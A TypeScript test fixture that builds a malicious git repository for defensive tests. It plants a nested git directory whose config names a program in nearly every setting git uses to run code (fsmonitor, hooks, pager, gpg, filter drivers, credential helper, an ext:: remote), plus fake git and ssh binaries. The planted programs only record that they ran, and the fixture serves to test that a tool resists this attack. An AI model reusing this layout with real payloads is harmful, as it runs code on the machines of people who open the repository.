import { execFileSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { createRepository, type TemporaryRepository } from '../temporary-repository.ts';

/** A folder of the clone that is a git directory and a folder of prompts at once. */
export const EVIL = 'prompts/evil';

export interface AttackRepository extends Disposable {
  /** A clone of the repository that contains the attack, with a changed prompt in its work tree. */
  clone: TemporaryRepository;
  /** Names of planted programs that ran since the last call. */
  ran(): string[];
}

const PROMPT = '---\nmodel: demo/swift\n---\nSay hello {{>part}}\n';

const HOOKS = [
  'applypatch-msg',
  'commit-msg',
  'fsmonitor-watchman',
  'post-checkout',
  'post-commit',
  'post-index-change',
  'post-merge',
  'post-rewrite',
  'pre-auto-gc',
  'pre-commit',
  'pre-merge-commit',
  'pre-push',
  'prepare-commit-msg',
  'reference-transaction',
];

/** Every setting by which a git directory names a program for git to run. */
function configuration(program: (name: string) => string): string {
  return `[core]
	repositoryformatversion = 0
	bare = false
	worktree = .
	fsmonitor = ${program('fsmonitor')}
	hooksPath = ${program('hooks')}
	sshCommand = ${program('ssh')}
	gitProxy = ${program('proxy')}
	askPass = ${program('askpass')}
	pager = ${program('pager')}
	editor = ${program('editor')}
	alternateRefsCommand = ${program('alternates')}
[user]
	name = Eve
	email = eve@example.org
	signingKey = eve
[pager]
	status = ${program('pager-status')}
	log = ${program('pager-log')}
[gpg]
	program = ${program('gpg')}
[commit]
	gpgSign = true
[tag]
	gpgSign = true
[log]
	showSignature = true
[diff]
	external = ${program('diff-external')}
[diff "evil"]
	textconv = ${program('textconv')}
	command = ${program('diff-command')}
[filter "evil"]
	clean = ${program('clean')}
	smudge = ${program('smudge')}
	required = true
[merge "evil"]
	driver = ${program('merge-driver')}
[credential]
	helper = ${program('credential')}
[alias]
	status = !${program('alias')}
	cat-file = !${program('alias')}
[include]
	path = more-config
[includeIf "gitdir:**"]
	path = more-config
[trailer "evil"]
	key = Evil
	command = ${program('trailer')}
[remote "origin"]
	url = ext::${program('remote-helper')}
	fetch = +refs/heads/*:refs/remotes/origin/*
	uploadpack = ${program('uploadpack')}
	receivepack = ${program('receivepack')}
[uploadpack]
	packObjectsHook = ${program('pack-objects')}
`;
}

/** A folder that git uses as its repository when it is started there: with objects, an index and all programs. */
function plantGitDirectory(repository: TemporaryRepository, folder: string, programs: string): void {
  const place = path.join(repository.root, folder);
  const own = path.join(repository.root, '.git');
  cpSync(path.join(own, 'objects'), path.join(place, 'objects'), { recursive: true });
  cpSync(path.join(own, 'index'), path.join(place, 'index'));
  mkdirSync(path.join(place, 'refs/heads'), { recursive: true });
  mkdirSync(path.join(place, 'info'), { recursive: true });
  writeFileSync(path.join(place, 'HEAD'), readFileSync(path.join(own, 'HEAD')));
  cpSync(path.join(own, 'refs/heads/main'), path.join(place, 'refs/heads/main'));
  const program = (name: string) => path.join(programs, name);
  writeFileSync(path.join(place, 'config'), configuration(program));
  writeFileSync(path.join(place, 'more-config'), `[core]\n\tfsmonitor = ${program('included')}\n`);
  writeFileSync(path.join(place, 'info/attributes'), '* filter=evil diff=evil merge=evil\n');
  mkdirSync(path.join(place, 'hooks'), { recursive: true });
  for (const hook of HOOKS) writeProgram(path.join(place, 'hooks', hook), programs);
}

/** A program that records that it ran, and then does nothing. */
function writeProgram(file: string, programs: string): void {
  mkdirSync(path.dirname(file), { recursive: true });
  const name = path.basename(file);
  writeFileSync(file, `#!/bin/sh\ntouch '${path.join(programs, 'ran', name)}'\n`);
  chmodSync(file, 0o755);
}

export function createAttackRepository(): AttackRepository {
  const origin = createRepository({ folder: 'origin' });
  const programs = path.join(origin.root, '..', 'programs');
  mkdirSync(path.join(programs, 'ran'), { recursive: true });
  for (const name of configuration((one) => `@${one}@`).matchAll(/@([\w-]+)@/g)) {
    if (name[1] !== 'hooks') writeProgram(path.join(programs, name[1] ?? ''), programs);
  }
  writeProgram(path.join(programs, 'included'), programs);
  for (const hook of HOOKS) writeProgram(path.join(programs, 'hooks', hook), programs);
  for (const tool of ['git', 'git.exe', 'ssh', 'gpg']) {
    origin.write(`${EVIL}/${tool}`, `#!/bin/sh\ntouch '${path.join(programs, 'ran', tool)}'\n`);
    chmodSync(path.join(origin.root, EVIL, tool), 0o755);
  }
  origin.commit('Start', { 'a.prompt': PROMPT, '_part.prompt': 'part\n', [`${EVIL}/a.prompt`]: PROMPT });
  plantGitDirectory(origin, EVIL, programs);
  origin.commit('Carry the attack', {
    [`${EVIL}/llmops/.gitkeep`]: '',
    [`${EVIL}/_part.prompt`]: 'part\n',
    [`${EVIL}/.gitattributes`]: '* filter=evil diff=evil merge=evil\n',
    [`${EVIL}/objects/info/.gitkeep`]: '',
    [`${EVIL}/.gitignore`]: '.llmops/\n',
  });
  const clone = createRepository({ clone: origin.root });
  // the attacker's index lists changed files, so that git would have to read them
  clone.write(`${EVIL}/a.prompt`, PROMPT.replace('hello', 'goodbye'));
  const ran = path.join(programs, 'ran');
  return {
    clone,
    ran() {
      const names = readdirSync(ran);
      for (const name of names) rmSync(path.join(ran, name));
      return names.sort();
    },
    [Symbol.dispose]() {
      clone[Symbol.dispose]();
      origin[Symbol.dispose]();
    },
  };
}

/** Shows that the attack works: git itself, started in the folder, runs the planted programs. */
export function proveAttack({ clone, ran }: AttackRepository, folder = EVIL): void {
  const cwd = path.join(clone.root, folder);
  if (!existsSync(path.join(cwd, 'HEAD'))) throw new Error(`${cwd} is no git directory`);
  for (const args of [['status'], ['diff'], ['update-ref', 'refs/heads/x', 'HEAD']]) {
    try {
      execFileSync('git', ['-c', 'safe.bareRepository=all', ...args], { cwd, env: clone.env, stdio: 'pipe' });
    } catch {
      // its failure does not matter: the programs ran before
    }
  }
  const names = ran();
  if (!names.includes('included') || !names.includes('reference-transaction')) {
    throw new Error(`the attack does not work, only ${names.join(', ') || 'nothing'} ran`);
  }
}
